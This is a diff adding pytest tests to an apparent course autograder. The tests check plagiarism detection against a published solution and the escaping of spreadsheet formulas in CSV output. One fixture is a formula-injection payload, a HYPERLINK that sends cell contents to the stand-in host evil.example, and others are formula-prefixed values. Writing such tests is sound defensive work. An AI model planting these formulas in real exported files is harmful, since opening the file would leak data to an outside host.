@@ -489,3 +489,41 @@ def test_the_command_line_writes_the_csv_and_html_and_fails_cleanly(tmp_path, ca
     assert (tmp_path / "s.html").exists()
     assert main([str(tmp_path / "nowhere"), "--out", str(tmp_path / "t.csv")]) == 2
     assert "error:" in capsys.readouterr().err
+
+
+# ----------------------------------------------------------------------------- published code, CSV safety
+def test_a_disguised_copy_of_the_published_reference_is_reported_against_it(tmp_path):
+    reference = (ROOT / "solutions" / "hw02_evil_twins" / "hw02.py").read_text()
+    disguised = ("# Author: Pat Copy\n# Netid: pc1\n# Aid: none\n"
+                 + reference.split('"""', 2)[2].replace("groups", "clusters").replace("flagged", "suspects"))
+    write_class(tmp_path / "subs", {"pat": disguised, "ada": HONEST["ada"]})
+    rows = similarity_report(tmp_path / "subs", tmp_path / "s.csv", log=lambda m: None)
+    assert rows and rows[0]["student_a"] == "pat"
+    assert rows[0]["student_b"] == "published: solutions/hw02_evil_twins/hw02.py"
+    assert rows[0]["similarity"] >= 0.9
+    assert not [r for r in rows if "ada" in (r["student_a"], r["student_b"])]
+    with open(tmp_path / "s.csv", newline="") as fh:
+        assert next(csv.DictReader(fh))["student_b"] == "published: solutions/hw02_evil_twins/hw02.py"
+
+
+def test_a_formula_in_an_aid_is_written_as_text(tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"notes")'
+    program = "import os\n" + HONEST_NEIGHBOURS
+    write_class(tmp_path / "subs", {
+        "eve": f"# Author: Eve\n# Netid: ev1\n# Aid: {formula}\n" + program,
+        "-mal": "# Author: Mal\n# Netid: ma1\n# Aid: @SUM(1+1)\n" + program,
+    })
+    similarity_report(tmp_path / "subs", tmp_path / "s.csv", log=lambda m: None)
+    with open(tmp_path / "s.csv", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    cells = {row["student_a"]: row["aid_a"], row["student_b"]: row["aid_b"]}
+    assert cells == {"'-mal": "'@SUM(1+1)", "eve": "'" + formula}
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("lecture 3 notes", "lecture 3 notes"), ("a=b", "a=b"), ("", ""), (0.5, "0.5")])
+def test_csv_safe_prefixes_only_cells_a_spreadsheet_reads_as_formulas(value, written):
+    from autograder.hw02.csv_safe import csv_safe
+
+    assert csv_safe(value) == written
